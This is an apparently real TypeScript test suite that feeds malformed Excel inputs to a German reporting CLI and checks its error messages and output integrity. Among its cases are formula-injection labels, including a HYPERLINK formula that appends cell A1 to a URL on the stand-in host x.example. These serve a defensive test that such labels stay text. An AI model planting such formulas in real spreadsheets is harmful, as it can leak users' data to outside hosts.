/**
 * Malformed inputs end to end through the CLI: each gets a German message naming sheet and cell and saying what was
 * done with the value, no exception escapes, the input file is byte-for-byte unchanged, the source sheets in the report
 * copy carry the same values, no text cell of any report sheet became a formula, and no report cell is longer than
 * Excel accepts. A separate test fingerprints every source sheet of the whole corpus before and after the run.
 *
 * Inputs the product does not handle yet are not in this corpus; they are listed for the owner in the issue notes
 * (malformed-bugs.md) instead. The cases after "Fixed in issue #5" were such inputs; the bug number is in
 * their name.
 */
import ExcelJS from "exceljs";
import { createHash } from "node:crypto";
import { existsSync, mkdtempSync, readFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { main } from "../../src/cli/main";
import { summarySchemaErrors } from "../fixtures/summary-schema";

type Build = (wb: ExcelJS.Workbook) => void;

const months = ["Jan 22", "Feb 22", "Mär 22"];
function grunddaten(wb: ExcelJS.Workbook, patch: (ws: ExcelJS.Worksheet) => void = () => undefined, name = "Grunddaten"): void {
  const ws = wb.addWorksheet(name);
  ws.addRow(["Grunddatum", ...months]);
  ws.addRow(["ELB", 1000, 1010, 1020]);
  ws.addRow(["Integrationen", 20, 22, 25]);
  ws.addRow(["LZB", 600, 598, 590]);
  patch(ws);
}
function ziele(wb: ExcelJS.Workbook, patch: (ws: ExcelJS.Worksheet) => void = () => undefined): void {
  const ws = wb.addWorksheet("Ziele");
  ws.addRow(["Kennzahl", "Zielwert", "Toleranz"]);
  ws.addRow(["Integrationsquote", 22, 0.5]);
  ws.addRow(["Bestand Langzeitleistungsbeziehende", 590, 1]);
  patch(ws);
}
function budget(wb: ExcelJS.Workbook, patch: (ws: ExcelJS.Worksheet) => void = () => undefined): void {
  const ws = wb.addWorksheet("EGT 2022");
  ws.addRow(["Zuteilung EGT", 1_000_000]);
  ws.addRow([]);
  ws.addRow(["Kategorie", "Instrument", "Plan", "Ist Jan–Mär", "Bindung"]);
  ws.addRow(["Aktivierung", "Vermittlungsbudget", 400_000, 90_000, 10_000]);
  ws.addRow(["Aufnahme", "EGZ", 600_000, 150_000, 40_000]);
  ws.addRow(["Gesamt", null, 1_000_000, 240_000, 50_000]);
  patch(ws);
}
/** Long format: "Kennzahl | Monat | Ist", rows from row 2 on. */
function quality(wb: ExcelJS.Workbook, ...rows: unknown[][]): void {
  const ws = wb.addWorksheet("Qualität");
  ws.addRow(["Kennzahl", "Monat", "Ist"]);
  for (const row of rows) ws.addRow(row);
}
/** A case list "Aktenzeichen | Antragseingang | Bescheid"; A-1 in row 2 is always a valid case. */
function cases(wb: ExcelJS.Workbook, ...rows: unknown[][]): void {
  const ws = wb.addWorksheet("Fälle");
  ws.addRow(["Aktenzeichen", "Antragseingang", "Bescheid"]);
  ws.addRow(["A-1", "01.03.2022", "10.03.2022"]);
  for (const row of rows) ws.addRow(row);
}
/** Local indicators (a Richtung makes an unknown name one): their names are written into the Ziel-Ist-Vergleich. */
function localTargets(wb: ExcelJS.Workbook, ...names: string[]): void {
  const ws = wb.addWorksheet("Ziele");
  ws.addRow(["Kennzahl", "Zielwert", "Einheit", "Richtung"]);
  for (const name of names) ws.addRow([name, 5, "Anzahl", "höher"]);
}
const excelError = (error: string) => ({ error }) as ExcelJS.CellErrorValue;
const utc = (y: number, m: number, d: number) => new Date(Date.UTC(y, m - 1, d));
/** Longer than the 32,767 characters Excel allows in a cell. */
const VERY_LONG = "Zwischensumme ohne Wert ".repeat(1700).slice(0, 40_000);

interface Expected {
  sheet: string;
  cell: string;
  text: RegExp;
  /** Labels that must reach the Ziel-Ist-Vergleich as plain text cells. */
  asText?: string[];
  /** How serious the message must be, where the case is about that too. */
  level?: "error" | "warning" | "info";
}

const CASES: Array<[string, Build, Expected]> = [
  ["text that is not a number", (wb) => grunddaten(wb, (ws) => (ws.getCell("C2").value = "zwölf")), { sheet: "Grunddaten", cell: "C2", text: /„zwölf“ ist keine Zahl/ }],
  ["a boolean where a number belongs", (wb) => grunddaten(wb, (ws) => (ws.getCell("D3").value = true)), { sheet: "Grunddaten", cell: "D3", text: /keine Zahl/ }],
  ["an Excel error value", (wb) => grunddaten(wb, (ws) => (ws.getCell("B4").value = { error: "#DIV/0!" } as ExcelJS.CellErrorValue)), { sheet: "Grunddaten", cell: "B4", text: /fehlender Wert/ }],
  ["a duplicated Grunddaten row", (wb) => grunddaten(wb, (ws) => ws.addRow(["ELB", 1, 2, 3])), { sheet: "Grunddaten", cell: "A5", text: /doppelt/ }],
  ["a Zielwert in words", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("B2").value = "hoch")); }, { sheet: "Ziele", cell: "B2", text: /kein gültiger Zielwert/ }],
  ["a negative tolerance", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("C3").value = -2)); }, { sheet: "Ziele", cell: "C3", text: /Toleranz.*ungültig/ }],
  ["a missing Zielwert", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("B3").value = null)); }, { sheet: "Ziele", cell: "B3", text: /kein Zielwert eingetragen/ }],
  ["an allocation in words", (wb) => budget(wb, (ws) => (ws.getCell("B1").value = "viel")), { sheet: "EGT 2022", cell: "B1", text: /„viel“ ist kein Betrag/ }],
  ["instrument rows that do not add up", (wb) => budget(wb, (ws) => (ws.getCell("C6").value = 1_100_000)), { sheet: "EGT 2022", cell: "C6", text: /Differenz/ }],
  ["an amount in words in the instrument table", (wb) => budget(wb, (ws) => (ws.getCell("D4").value = "später")), { sheet: "EGT 2022", cell: "D4", text: /kein Betrag/ }],
  ["Ist and Bindung above the plan", (wb) => budget(wb, (ws) => (ws.getCell("E4").value = 400_000)), { sheet: "EGT 2022", cell: "B4", text: /überplant/ }],
  [
    "cumulative outflow that falls",
    (wb) => {
      budget(wb);
      const ws = wb.addWorksheet("Monate");
      ws.addRow(["Monat", "Ist kumuliert"]);
      ws.addRow(["Januar 2022", 100_000]);
      ws.addRow(["Februar 2022", 90_000]);
    },
    { sheet: "Monate", cell: "B3", text: /sinken/ },
  ],
  [
    "a case decided before it arrived",
    (wb) => {
      const ws = wb.addWorksheet("Fälle");
      ws.addRow(["Aktenzeichen", "Antragseingang", "Bescheid"]);
      ws.addRow(["A-1", "01.03.2022", "10.03.2022"]);
      ws.addRow(["A-2", "20.03.2022", "10.03.2022"]);
    },
    { sheet: "Fälle", cell: "C3", text: /vor dem Eingang/ },
  ],
  [
    "an impossible date",
    (wb) => {
      const ws = wb.addWorksheet("Fälle");
      ws.addRow(["Aktenzeichen", "Antragseingang", "Bescheid"]);
      ws.addRow(["A-1", "31.02.2022", "10.03.2022"]);
      ws.addRow(["A-2", "01.03.2022", "10.03.2022"]);
    },
    { sheet: "Fälle", cell: "B2", text: /„31\.02\.2022“ ist kein Datum/ },
  ],
  [
    "a case in the future",
    (wb) => {
      const ws = wb.addWorksheet("Fälle");
      ws.addRow(["Aktenzeichen", "Antragseingang", "Bescheid"]);
      ws.addRow(["A-1", "01.03.2022", "10.03.2022"]);
      ws.addRow(["A-2", "01.03.2022", "10.03.2099"]);
    },
    { sheet: "Fälle", cell: "C3", text: /in der Zukunft/ },
  ],
  [
    "a quality row with a month that is not one",
    (wb) => {
      grunddaten(wb);
      const ws = wb.addWorksheet("Qualität");
      ws.addRow(["Kennzahl", "Monat", "Ist"]);
      ws.addRow(["Kundenzufriedenheit (KZI)", "Sommer", 2.1]);
      ws.addRow(["Kundenzufriedenheit (KZI)", "03/2022", 2.2]);
    },
    { sheet: "Qualität", cell: "B2", text: /„Sommer“ ist kein Monat/ },
  ],
  [
    "formula-like labels and a sheet name with quotes and brackets",
    (wb) => {
      grunddaten(wb, () => undefined, "Daten (alt) 'Kopie' & Co");
      // A local indicator whose name is a formula: it is written into the report, and must stay text there.
      const ws = wb.addWorksheet("Ziele");
      ws.addRow(["Kennzahl", "Zielwert", "Einheit", "Richtung"]);
      ws.addRow(['=HYPERLINK("http://x.example/?"&A1)', 5, "Anzahl", "höher"]);
      ws.addRow(["+SUMME(A1:A9)", 5, "Anzahl", "niedriger"]);
    },
    { sheet: "Ziele", cell: "A2", text: /lokale Kennzahl/, asText: ['=HYPERLINK("http://x.example/?"&A1)', "+SUMME(A1:A9)"] },
  ],
  ["a month header row with a month missing its values", (wb) => grunddaten(wb, (ws) => (ws.getCell("D4").value = "k.A.")), { sheet: "Grunddaten", cell: "D4", text: /fehlender Wert/ }],
  // Numbers that are not numbers.
  ["a number with two decimal commas", (wb) => grunddaten(wb, (ws) => (ws.getCell("C2").value = "1,2,3")), { sheet: "Grunddaten", cell: "C2", text: /„1,2,3“ ist keine Zahl; der Monat bleibt ohne Wert/ }],
  ["a number with two decimal points", (wb) => grunddaten(wb, (ws) => (ws.getCell("D3").value = "2.5.1")), { sheet: "Grunddaten", cell: "D3", text: /„2\.5\.1“ ist keine Zahl; der Monat bleibt ohne Wert/ }],
  ["the text NaN", (wb) => grunddaten(wb, (ws) => (ws.getCell("B2").value = "NaN")), { sheet: "Grunddaten", cell: "B2", text: /„NaN“ ist keine Zahl; der Monat bleibt ohne Wert/ }],
  ["the text Infinity", (wb) => grunddaten(wb, (ws) => (ws.getCell("D4").value = "Infinity")), { sheet: "Grunddaten", cell: "D4", text: /„Infinity“ ist keine Zahl; der Monat bleibt ohne Wert/ }],
  ["40,000 characters of text where a number belongs", (wb) => grunddaten(wb, (ws) => (ws.getCell("C3").value = VERY_LONG)), { sheet: "Grunddaten", cell: "C3", text: /^„Zwischensumme ohne Wert .*“ ist keine Zahl; der Monat bleibt ohne Wert/s }],
  // Excel errors, as Excel stores them (English codes) …
  ...(["#N/A", "#REF!", "#NAME?", "#VALUE!", "#NUM!", "#NULL!"] as const).map((code): [string, Build, Expected] => [
    `the Excel error ${code}`,
    (wb) => grunddaten(wb, (ws) => (ws.getCell("C4").value = excelError(code))),
    { sheet: "Grunddaten", cell: "C4", text: new RegExp(`^„${code.replace(/[?!/]/g, "\\$&")}“ gilt als fehlender Wert \\(nicht als 0\\)`) },
  ]),
  // … and as German exports paste them (text).
  ...["#NV", "#WERT!", "#BEZUG!", "#ZAHL!"].map((code): [string, Build, Expected] => [
    `the German error text ${code}`,
    (wb) => grunddaten(wb, (ws) => (ws.getCell("B3").value = code)),
    { sheet: "Grunddaten", cell: "B3", text: new RegExp(`^„${code.replace(/[?!/]/g, "\\$&")}“ gilt als fehlender Wert \\(nicht als 0\\)`) },
  ]),
  ["a formula whose cached result is #DIV/0!", (wb) => grunddaten(wb, (ws) => (ws.getCell("D2").value = { formula: "C2/0", result: excelError("#DIV/0!") } as ExcelJS.CellFormulaValue)), { sheet: "Grunddaten", cell: "D2", text: /„#DIV\/0!“ gilt als fehlender Wert \(nicht als 0\)/ }],
  ["a formula whose cached result is #N/A", (wb) => grunddaten(wb, (ws) => (ws.getCell("B3").value = { formula: "VLOOKUP(A3,Import!A:B,2,0)", result: excelError("#N/A") } as ExcelJS.CellFormulaValue)), { sheet: "Grunddaten", cell: "B3", text: /„#N\/A“ gilt als fehlender Wert \(nicht als 0\)/ }],
  ["a formula whose cached result is text", (wb) => grunddaten(wb, (ws) => (ws.getCell("C4").value = { formula: 'IF(B4>0,"unklar",B4)', result: "unklar" } as ExcelJS.CellFormulaValue)), { sheet: "Grunddaten", cell: "C4", text: /„unklar“ ist keine Zahl; der Monat bleibt ohne Wert/ }],
  ["a hidden Grunddaten sheet with text in a number cell", (wb) => grunddaten(wb, (ws) => { ws.getCell("C2").value = "elf"; ws.state = "hidden"; }), { sheet: "Grunddaten", cell: "C2", text: /„elf“ ist keine Zahl; der Monat bleibt ohne Wert/ }],
  // Grunddaten with months as rows.
  [
    "a month that does not exist in a month column",
    (wb) => {
      const ws = wb.addWorksheet("Grunddaten");
      ws.addRow(["Monat", "ELB", "Integrationen", "LZB"]);
      ws.addRow(["01/2022", 1000, 20, 600]);
      ws.addRow(["13/2022", 1010, 22, 598]);
      ws.addRow(["03/2022", 1020, 25, 590]);
    },
    { sheet: "Grunddaten", cell: "A3", text: /„13\/2022“ ist kein Monat; die Zeile wird nicht verwendet/ },
  ],
  [
    "text in a month row",
    (wb) => {
      const ws = wb.addWorksheet("Grunddaten");
      ws.addRow(["Monat", "ELB", "Integrationen", "LZB"]);
      ws.addRow(["01/2022", 1000, 20, 600]);
      ws.addRow(["02/2022", 1010, "viele", 598]);
      ws.addRow(["03/2022", 1020, 25, 590]);
    },
    { sheet: "Grunddaten", cell: "C3", text: /„viele“ ist keine Zahl; der Monat bleibt ohne Wert/ },
  ],
  // Quality figures in long format.
  ["a quality row in month 13", (wb) => { grunddaten(wb); quality(wb, ["Kundenzufriedenheit (KZI)", "13/2022", 2.1], ["Kundenzufriedenheit (KZI)", "03/2022", 2.2]); }, { sheet: "Qualität", cell: "B2", text: /„13\/2022“ ist kein Monat/ }],
  ["a quality value in words", (wb) => { grunddaten(wb); quality(wb, ["Kundenzufriedenheit (KZI)", "02/2022", "gut"], ["Kundenzufriedenheit (KZI)", "03/2022", 2.2]); }, { sheet: "Qualität", cell: "C2", text: /„gut“ ist keine Zahl \(Kundenzufriedenheit/ }],
  ["a quality value marked #NV", (wb) => { grunddaten(wb); quality(wb, ["Kundenzufriedenheit (KZI)", "02/2022", 2.4], ["Kundenzufriedenheit (KZI)", "03/2022", "#NV"]); }, { sheet: "Qualität", cell: "C3", text: /„#NV“ gilt als fehlender Wert \(nicht als 0\)/ }],
  // Zielwerte.
  ["a Zielwert row for an unknown indicator", (wb) => { grunddaten(wb); ziele(wb, (ws) => ws.addRow(["Glücksquote", 5, 1])); }, { sheet: "Ziele", cell: "A4", text: /„Glücksquote“ ist keine bekannte Kennzahl/ }],
  ["a tolerance in words", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("C2").value = "gering")); }, { sheet: "Ziele", cell: "C2", text: /Die Toleranz „gering“ ist ungültig; es gilt keine Toleranz \(oder die im Bericht eingestellte\)/ }],
  ["a tolerance in accounting brackets", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("C3").value = "(2)")); }, { sheet: "Ziele", cell: "C3", text: /Die Toleranz „\(2\)“ ist ungültig; es gilt keine Toleranz \(oder die im Bericht eingestellte\)/ }],
  ["a Zielwert marked #NV", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("B3").value = "#NV")); }, { sheet: "Ziele", cell: "B3", text: /Für „Bestand Langzeitleistungsbeziehende“ ist kein Zielwert eingetragen/ }],
  ["a Zielwert that is an Excel error", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("B2").value = excelError("#VALUE!"))); }, { sheet: "Ziele", cell: "B2", text: /Für „Integrationsquote“ ist kein Zielwert eingetragen/ }],
  // Formula injection in labels that the report writes back: they must stay text.
  ...["-2", "@SUM(A1)", "+1", "=1+1"].map((label): [string, Build, Expected] => [
    `a local indicator named ${label}`,
    (wb) => { grunddaten(wb); localTargets(wb, "Beratungsgespräche", label); },
    { sheet: "Ziele", cell: "A3", text: new RegExp(`^„${label.replace(/[+()]/g, "\\$&")}“ wird als lokale Kennzahl ausgewertet`), asText: [label] },
  ]),
  // EGT budget.
  ["a date typed where an amount belongs", (wb) => budget(wb, (ws) => (ws.getCell("D4").value = "01.03.2022")), { sheet: "EGT 2022", cell: "D4", text: /„01\.03\.2022“ ist kein Betrag \(Ist\); die Zelle bleibt leer/ }],
  ["an amount in US dollars", (wb) => budget(wb, (ws) => (ws.getCell("D5").value = "150.000 USD")), { sheet: "EGT 2022", cell: "D5", text: /„150\.000 USD“ ist kein Betrag \(Ist\); die Zelle bleibt leer/ }],
  ["an amount with a dollar sign", (wb) => budget(wb, (ws) => (ws.getCell("C4").value = "$400,000")), { sheet: "EGT 2022", cell: "C4", text: /„\$400,000“ ist kein Betrag \(Plan\); die Zelle bleibt leer/ }],
  ["a Bindung in words", (wb) => budget(wb, (ws) => (ws.getCell("E5").value = "gebunden")), { sheet: "EGT 2022", cell: "E5", text: /„gebunden“ ist kein Betrag \(Bindung\); die Zelle bleibt leer/ }],
  ["a plan in accounting brackets (negative)", (wb) => budget(wb, (ws) => (ws.getCell("C4").value = "(1.200)")), { sheet: "EGT 2022", cell: "B4", text: /„Vermittlungsbudget“ hat einen negativen Planansatz \(-1\.200 €\)/ }],
  ["a total row in words", (wb) => budget(wb, (ws) => (ws.getCell("C6").value = "eine Million")), { sheet: "EGT 2022", cell: "C6", text: /„eine Million“ ist kein Betrag \(Plan\); die Zelle bleibt leer/ }],
  ["spending without a plan", (wb) => budget(wb, (ws) => (ws.getCell("C5").value = null)), { sheet: "EGT 2022", cell: "B5", text: /„EGZ“ hat Ausgaben \(150\.000 €\), aber keinen Planansatz/ }],
  [
    "a Mittelherleitung that does not add up",
    // 1.000.000 − 100.000 − 50.000 = 850.000, the sheet says 900.000.
    (wb) => budget(wb, (ws) => ws.spliceRows(2, 0, ["Umschichtung", 100_000], ["Vorbelastungen", 50_000], ["Neugeschäft", 900_000])),
    { sheet: "EGT 2022", cell: "B4", text: /= 850\.000 €, angegeben sind 900\.000 € für Neugeschäft \(Differenz 50\.000 €\)/ },
  ],
  [
    "a monthly outflow in words",
    (wb) => {
      budget(wb);
      const ws = wb.addWorksheet("Monate");
      ws.addRow(["Monat", "Ist kumuliert"]);
      ws.addRow(["Januar 2022", 100_000]);
      ws.addRow(["Februar 2022", "storniert"]);
      ws.addRow(["März 2022", 240_000]);
    },
    { sheet: "Monate", cell: "B3", text: /„storniert“ ist kein Betrag/ },
  ],
  // Case lists.
  ["a case with text in the date column", (wb) => cases(wb, ["A-2", "02.03.2022", "offen?"]), { sheet: "Fälle", cell: "C3", text: /„offen\?“ ist kein Datum; der Fall wird nicht berücksichtigt/ }],
  ["a case without an Eingangsdatum", (wb) => cases(wb, ["A-2", null, "10.03.2022"]), { sheet: "Fälle", cell: "B3", text: /Eingangsdatum fehlt; der Fall wird nicht berücksichtigt/ }],
  ["a case listed twice", (wb) => cases(wb, ["A-1", "01.03.2022", "10.03.2022"]), { sheet: "Fälle", cell: "A3", text: /steht doppelt in der Liste; die Wiederholung wird nicht berücksichtigt/ }],
  ["a case that arrives in 2099", (wb) => cases(wb, ["A-2", "01.03.2099", null]), { sheet: "Fälle", cell: "B3", text: /in der Zukunft .*; der Fall wird nicht berücksichtigt/ }],
  ["a case closed before it opened (date cells)", (wb) => cases(wb, ["A-2", utc(2022, 3, 20), utc(2022, 3, 5)]), { sheet: "Fälle", cell: "C3", text: /Das Erledigungsdatum liegt vor dem Eingang; der Fall wird nicht berücksichtigt/ }],
  ["a case with a negative number as date", (wb) => cases(wb, ["A-2", -5, "10.03.2022"]), { sheet: "Fälle", cell: "B3", text: /„-5“ ist kein Datum; der Fall wird nicht berücksichtigt/ }],
  ["a case closed on 31 April", (wb) => cases(wb, ["A-2", "01.04.2022", "31.04.2022"]), { sheet: "Fälle", cell: "C3", text: /„31\.04\.2022“ ist kein Datum; der Fall wird nicht berücksichtigt/ }],
  ["a case whose Bescheid date is #N/A", (wb) => cases(wb, ["A-2", "01.03.2022", excelError("#N/A")]), { sheet: "Fälle", cell: "C3", text: /„#N\/A“ ist kein Datum; der Fall wird nicht berücksichtigt/ }],
  [
    "a closing day in words",
    (wb) => {
      grunddaten(wb);
      const ws = wb.addWorksheet("Schließtage");
      ws.addRow(["Schließtage"]);
      ws.addRow(["27.05.2022"]);
      ws.addRow(["Brückentag"]);
    },
    { sheet: "Schließtage", cell: "A3", text: /„Brückentag“ ist kein Datum; der Schließtag wird nicht berücksichtigt/ },
  ],
  // Fixed in issue #5 (the number is the bug's in malformed-bugs.md).
  // A formula without a cached result is read as #N/A by the .xlsx reader (read-sheet.ts), so its month is missing, not 0.
  ["#2 a formula without a cached result", (wb) => grunddaten(wb, (ws) => (ws.getCell("C4").value = { formula: "B4-2" } as ExcelJS.CellFormulaValue)), { sheet: "Grunddaten", cell: "C4", text: /gilt als fehlender Wert \(nicht als 0\)/ }],
  ["#3 a real date cell where an amount belongs", (wb) => budget(wb, (ws) => (ws.getCell("D4").value = utc(2022, 3, 1))), { sheet: "EGT 2022", cell: "D4", text: /^Ein Datum ist kein Betrag \(Ist\); die Zelle bleibt leer/, level: "error" }],
  ["#4 an Excel error in the instrument table", (wb) => budget(wb, (ws) => (ws.getCell("D4").value = excelError("#REF!"))), { sheet: "EGT 2022", cell: "D4", text: /^„#REF!“ gilt als fehlender Wert \(nicht als 0\); die Zelle \(Ist\) bleibt leer/, level: "warning" }],
  [
    "#5 a header label 13/2022 with values under it",
    (wb) => grunddaten(wb, (ws) => ["13/2022", 1030, 27, 585].forEach((v, i) => (ws.getCell(1 + i, 5).value = v))),
    { sheet: "Grunddaten", cell: "E1", text: /^„13\/2022“ ist kein Monat; die Spalte wird nicht verwendet/, level: "warning" },
  ],
  ["#6 Feb 30 in the month header", (wb) => grunddaten(wb, (ws) => (ws.getCell("C1").value = "Feb 30")), { sheet: "Grunddaten", cell: "C1", text: /^„Feb 30“ ergäbe Februar 2030 .*„30“ ist wohl ein Tag, kein Jahr; die Spalte wird nicht verwendet/, level: "warning" }],
  [
    "#7 Feb 30 as the month of a quality row",
    (wb) => { grunddaten(wb); quality(wb, ["Kundenzufriedenheit (KZI)", "Feb 30", 2.1], ["Kundenzufriedenheit (KZI)", "03/2022", 2.2]); },
    { sheet: "Qualität", cell: "B2", text: /^„Feb 30“ ergäbe Februar 2030 .*die Zeile wird nicht verwendet/, level: "warning" },
  ],
  [
    "#6 Feb 30 as a month row of transposed Grunddaten",
    (wb) => {
      const ws = wb.addWorksheet("Grunddaten");
      ws.addRow(["Monat", "ELB", "Integrationen", "LZB"]);
      ws.addRow(["Jan 22", 1000, 20, 600]);
      ws.addRow(["Feb 30", 1010, 22, 598]);
      ws.addRow(["Mär 22", 1020, 25, 590]);
    },
    { sheet: "Grunddaten", cell: "A3", text: /^„Feb 30“ ergäbe Februar 2030 .*die Zeile wird nicht verwendet/, level: "warning" },
  ],
  ["#8 the same month twice in the header", (wb) => grunddaten(wb, (ws) => (ws.getCell("D1").value = "Feb 22")), { sheet: "Grunddaten", cell: "D1", text: /^Februar 2022 steht doppelt in der Kopfzeile \(schon in C1\); die Spalte D wird nicht verwendet/, level: "warning" }],
  [
    "#9 a month missing from the header",
    (wb) => grunddaten(wb, (ws) => ["Dez 21", "Jan 22", "Mär 22"].forEach((label, i) => (ws.getCell(1, 2 + i).value = label))),
    { sheet: "Grunddaten", cell: "D1", text: /^Februar 2022 fehlt in der Kopfzeile zwischen C1 und D1/, level: "warning" },
  ],
  ["#10 an indicator twice in the Zielwerte", (wb) => { grunddaten(wb); ziele(wb, (ws) => ws.addRow(["Integrationsquote", 30, 1])); }, { sheet: "Ziele", cell: "A4", text: /^„Integrationsquote“ steht doppelt mit verschiedenen Werten \(Zeilen 2 und 4, z\. B\. B2 und B4\); keiner der Werte wird verwendet/, level: "warning" }],
  [
    "#11 a quality indicator twice for the same month",
    (wb) => { grunddaten(wb); quality(wb, ["Kundenzufriedenheit (KZI)", "03/2022", 2.1], ["Kundenzufriedenheit (KZI)", "03/2022", 2.9]); },
    { sheet: "Qualität", cell: "A3", text: /^„Kundenzufriedenheit \(KZI\)“ steht für März 2022 doppelt; die Zeile wird nicht verwendet/, level: "warning" },
  ],
  ["#12 a Zielwert of 250 % for a quota", (wb) => { grunddaten(wb); ziele(wb, (ws) => (ws.getCell("B2").value = 250)); }, { sheet: "Ziele", cell: "B2", text: /^250 % ist als Quote nicht möglich; für „Integrationsquote“ gilt kein Zielwert/, level: "warning" }],
  [
    "a negative Widerspruchsquote",
    (wb) => { grunddaten(wb); quality(wb, ["Widerspruchsquote", "02/2022", "4 %"], ["Widerspruchsquote", "03/2022", "−3 %"]); },
    { sheet: "Qualität", cell: "C3", text: /^-3 % ist als Quote nicht möglich \(Widerspruchsquote\); der Monat bleibt ohne Wert/, level: "warning" },
  ],
  [
    "#12 a Widerspruchsquote of 140 %",
    (wb) => { grunddaten(wb); quality(wb, ["Widerspruchsquote", "02/2022", "4 %"], ["Widerspruchsquote", "03/2022", "140 %"]); },
    { sheet: "Qualität", cell: "C3", text: /^140 % ist als Quote nicht möglich \(Widerspruchsquote\); der Monat bleibt ohne Wert/, level: "warning" },
  ],
  ["#13 a negative ELB stock", (wb) => grunddaten(wb, (ws) => (ws.getCell("C2").value = -5)), { sheet: "Grunddaten", cell: "C2", text: /kann nicht negativ sein \(-5\); der Monat bleibt ohne Wert/, level: "warning" }],
  ["#14 a negative Bindung", (wb) => budget(wb, (ws) => (ws.getCell("E4").value = -10_000)), { sheet: "EGT 2022", cell: "E4", text: /^„Vermittlungsbudget“ hat eine negative Bindung \(-10\.000 €\)/, level: "error" }],
  [
    "#15 amounts in a row without an instrument",
    (wb) => budget(wb, (ws) => (ws.getCell("B4").value = null)),
    { sheet: "EGT 2022", cell: "B4", text: /^Instrument fehlt, aber die Zeile hat Beträge \(Plan 400\.000 €, Ist 90\.000 €, Bindung 10\.000 €\); die Zeile wird nicht verwendet/, level: "error" },
  ],
  [
    "#16 a Mittelabfluss month that is not one",
    (wb) => {
      budget(wb);
      const ws = wb.addWorksheet("Monate");
      ws.addRow(["Monat", "Ist kumuliert"]);
      ws.addRow(["Januar 2022", 100_000]);
      ws.addRow(["Sommer", 150_000]);
      ws.addRow(["März 2022", 240_000]);
    },
    { sheet: "Monate", cell: "A3", text: /^„Sommer“ ist kein Monat; die Zeile wird nicht verwendet/, level: "warning" },
  ],
  [
    "a Mittelabfluss table whose only month is in words",
    (wb) => {
      budget(wb);
      const ws = wb.addWorksheet("Monate");
      ws.addRow(["Monat", "Ist kumuliert"]);
      ws.addRow(["Januar 2022", "hunderttausend"]);
    },
    { sheet: "Monate", cell: "B2", text: /^„hunderttausend“ ist kein Betrag/, level: "error" },
  ],
  ["#17 a quality sheet whose only row is bad", (wb) => { grunddaten(wb); quality(wb, ["Kundenzufriedenheit (KZI)", "02/2022", "gut"]); }, { sheet: "Qualität", cell: "C2", text: /^„gut“ ist keine Zahl \(Kundenzufriedenheit/, level: "error" }],
  ["#18 an allocation of 0", (wb) => budget(wb, (ws) => (ws.getCell("B1").value = 0)), { sheet: "EGT 2022", cell: "B1", text: /^Zuteilung 0 € – fehlt der Betrag\?/, level: "warning" }],
  ["#19 an empty Grunddaten sheet", (wb) => { wb.addWorksheet("Grunddaten"); budget(wb); }, { sheet: "Grunddaten", cell: "A1", text: /^Das Blatt „Grunddaten“ ist leer/ }],
  [
    "#20 Grunddaten with only the header row",
    (wb) => { wb.addWorksheet("Grunddaten").addRow(["Grunddatum", ...months]); budget(wb); },
    { sheet: "Grunddaten", cell: "A1", text: /^Kopfzeile ohne Datenzeilen/ },
  ],
  ["#20 Zielwerte with only the header row", (wb) => { grunddaten(wb); wb.addWorksheet("Ziele").addRow(["Kennzahl", "Zielwert", "Toleranz"]); }, { sheet: "Ziele", cell: "A1", text: /^Zielwert-Tabelle ohne Zeilen/, level: "warning" }],
];

const sha = (data: string | Buffer) => createHash("sha256").update(data).digest("hex");
const silent = () => {
  const out: string[] = [];
  return { io: { out: (t: string) => out.push(t), err: (t: string) => out.push(t) }, out };
};
/** Excel refuses longer cell texts (and repairs the file away). */
const EXCEL_MAX_CELL_TEXT = 32_767;

/**
 * Everything a user could see change in a sheet: name, visibility, and per cell its address, type, value (formula and
 * cached result included), number format and merge.
 */
function sheetFingerprint(sheet: ExcelJS.Worksheet): string {
  const cells: unknown[] = [];
  sheet.eachRow({ includeEmpty: true }, (row) =>
    row.eachCell({ includeEmpty: true }, (cell) => cells.push([cell.address, cell.type, cell.value, cell.numFmt ?? null, cell.isMerged ? cell.master.address : null])),
  );
  return sha(JSON.stringify({ name: sheet.name, state: sheet.state, cells }));
}
async function fingerprints(path: string, names?: string[]): Promise<Record<string, string | null>> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(path);
  const wanted = names ?? wb.worksheets.map((w) => w.name);
  return Object.fromEntries(wanted.map((name) => {
    const sheet = wb.getWorksheet(name);
    return [name, sheet ? sheetFingerprint(sheet) : null];
  }));
}

/** Builds case i as a real .xlsx and runs the CLI on it. */
async function runCase(dir: string, i: number, build: Build) {
  const input = join(dir, `eingabe-${i}.xlsx`);
  const output = join(dir, `bericht-${i}.xlsx`);
  const json = join(dir, `bericht-${i}.json`);
  const wb = new ExcelJS.Workbook();
  build(wb);
  await wb.xlsx.writeFile(input);
  const bytesBefore = sha(readFileSync(input));
  const sheetsBefore = await fingerprints(input);
  const console = silent();
  const code = await main(["report", input, "--out", output, "--json", json, "--month", "2022-03"], console.io);
  return { input, output, json, code, printed: console.out.join("\n"), bytesBefore, sheetsBefore };
}

describe("malformed inputs", () => {
  const dir = mkdtempSync(join(tmpdir(), "sc-malformed-"));

  it("has a corpus of at least 44 cases with distinct names", () => {
    expect(CASES.length).toBeGreaterThanOrEqual(44);
    expect(new Set(CASES.map(([name]) => name)).size).toBe(CASES.length);
  });

  it.each(CASES.map(([name, build, expected], i) => [name, build, expected, i] as const))("%s", async (_name, build, expected, i) => {
    const run = await runCase(dir, i, build);
    expect([0, 1]).toContain(run.code);
    expect(run.printed).not.toMatch(/\n\s+at .+:\d+:\d+/); // no stack trace
    expect(run.printed).not.toMatch(/konnte nicht erstellt werden/); // no exception caught at the top either
    expect(sha(readFileSync(run.input))).toBe(run.bytesBefore);

    const summary = JSON.parse(readFileSync(run.json, "utf8"));
    expect(summarySchemaErrors(summary)).toEqual([]);
    expect(summary.messages).toContainEqual(expect.objectContaining({ sheet: expected.sheet, cell: expected.cell, text: expect.stringMatching(expected.text), ...(expected.level ? { level: expected.level } : {}) }));
    // Never a NaN or a leaked JavaScript value in what we say (the user's own text, quoted „…“, may say anything).
    for (const m of summary.messages) expect(m.text.replace(/„[^“]*“/g, "")).not.toMatch(/\bNaN\b|undefined|\[object /);

